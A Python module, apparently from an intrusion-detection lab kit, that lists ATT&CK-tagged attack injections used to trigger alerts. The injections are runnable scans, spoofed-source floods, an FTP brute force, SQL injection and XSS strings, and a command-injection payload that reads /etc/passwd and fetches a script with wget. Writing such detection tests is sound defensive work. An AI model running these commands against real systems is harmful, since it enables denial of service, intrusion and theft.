"""The kinds of tools/lab --inject: for each kind of alert, what an operator would try to see it."""
from labkit.attack import Attack

def _requests(*queries):
    return "; ".join(f"for i in 1 2; do curl --silent --output /dev/null 'http://{{target}}{query}'; done" for query in queries)


# The servers are left out: they have a port for each client's first bulk transfer, whenever that comes.
_TEN_SECONDS_PAST = """
rules: {uncommon_port: {history_s: 10}}
groups: [{name: servers, hosts: ["10.77.2.0/24", "fd77:2::/64"], off: [uncommon_port]}]
"""

INJECTIONS = {injection.name: injection for injection in [
    Attack("scan", "T1046", "nmap -n -Pn -sS {target}", (("vertical_scan", "source"),)),
    Attack("sweep", "T1046", "nmap -n -Pn -sS -p 3389 {network}", (("horizontal_scan", "source"),), victims=("targets",)),
    Attack("syn-flood", "T1498.001", "nping --tcp --flags syn --dest-port 80 --rate 800 --count 6000 -v-1 {target}",
           (("syn_flood", "source"), ("syn_flood", "destination"))),
    Attack("udp-flood", "T1498.001", "hping3 --quiet --udp --destport 9 --data 200 --interval u1000 {target}",
           (("udp_flood", "source"),), seconds=25, needs_answers=True),
    Attack("icmp-flood", "T1498.001", "nping --icmp --rate 200 --count 2000 -v-1 {target}", (("icmp_flood", "source"),)),
    Attack("connection-flood", "T1499.001", "nping --tcp-connect --dest-port 80 --rate 200 --count 4000 -v-1 {target}",
           (("connection_flood", "source"),)),
    Attack("distributed-flood", "T1498.001", "hping3 --quiet --rand-source --syn --destport 7 --interval u30000 {attacker}",
           (("distributed_flood", "destination"),), attacker="forged", seconds=20),
    Attack("reflection", "T1498.002", "nping --tcp --flags syn --source-ip {attacker} --source-port 4444 "
           "--dest-port 80 --rate 20 --count 1 -v-1 10.77.2.10-69", (("reflection", "destination"),), attacker="forged"),
    Attack("backscatter", "T1498.001", "nping --tcp --flags syn --source-ip {attacker} --source-port 4444 --dest-port 4 --rate 20 "
           "--count 1 -v-1 10.77.2.10-69", (("backscatter", "destination"),), attacker="forged"),
    Attack("odd-flags", "T1046", "hping3 --fin --push --urg --destport 80 --interval u100000 --count 40 {target}",
           (("odd_flags", "source"),)),
    Attack("brute-force", "T1110.001", "for i in $(seq 60); do curl --silent --user root:guess$i ftp://{target}/ & sleep 0.2; done; wait",
           (("brute_force", "source"),)),
    Attack("sqli", "T1190", _requests("/search?q=1%27+OR+%271%27=%271", "/search?q=1+UNION+SELECT+1,2,version%28%29--+"),
           (("web_attack", "source"),)),
    Attack("xss", "T1190", _requests("/search?q=%3Cscript%3Ealert%281%29%3C/script%3E"), (("web_attack", "source"),)),
    Attack("shell", "T1190", _requests("/search?q=%3Bcat+/etc/passwd", "/search?q=%60wget+http://{outside}/x.sh%60"),
           (("web_attack", "source"),)),
    Attack("web-scan", "T1595.003", "for i in $(seq 60); do curl --silent --output /dev/null http://{target}/backup-$i.zip; done",
           (("web_scan", "source"),), needs_answers=True),
    Attack("nxdomain", "T1568.002", "for i in $(seq 60); do dig @{resolver} +tries=1 +short $(echo $i | md5sum | cut -c 1-14).test; done",
           (("dns_nxdomain", "source"),), needs_answers=True),
    Attack("dns-tunnel", "T1048.003", "for i in $(seq 150); do dig @{resolver} +tries=1 +short "
           "$(echo $i | sha256sum | cut -c 1-56).t.lab.test TXT & sleep 0.1; done; wait", (("dns_tunnel", "source"),),
           other_end="dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --log-facility=- "
                     "--user=nobody --txt-record=t.lab.test,ok --address=/t.lab.test/192.0.2.1"),
    Attack("beacon", "T1071.001", "for i in $(seq 40); do curl --silent --output /dev/null http://{site}/style.css & sleep 1.1; done",
           (("beacon", "source"),), victims=("site",), seconds=60),
    Attack("spike", "T1048.001", "for i in 1 2 3; do curl --silent --insecure -T {folder}/large.bin https://{target}/upload; done",
           (("traffic_spike", "source"),)),
    # Within home it is the server that has to answer for its ports, so this goes outside. First a visit that nobody minds, a
    # window before: a host without a past is not judged.
    Attack("uncommon-port", "T1571", "curl --silent --output /dev/null http://{site}/; sleep 11; "
           "for i in 1 2 3 4; do curl --silent -T {paper} http://{site}:31337/upload; sleep 1; done",
           (("uncommon_port", "source"),), victims=("site",), config=_TEN_SECONDS_PAST),
    Attack("large-payload", "T1048.003", "ping -n -q -i 0.08 -s 1000 -c 250 {target}", (("large_payload", "source"),)),
]}
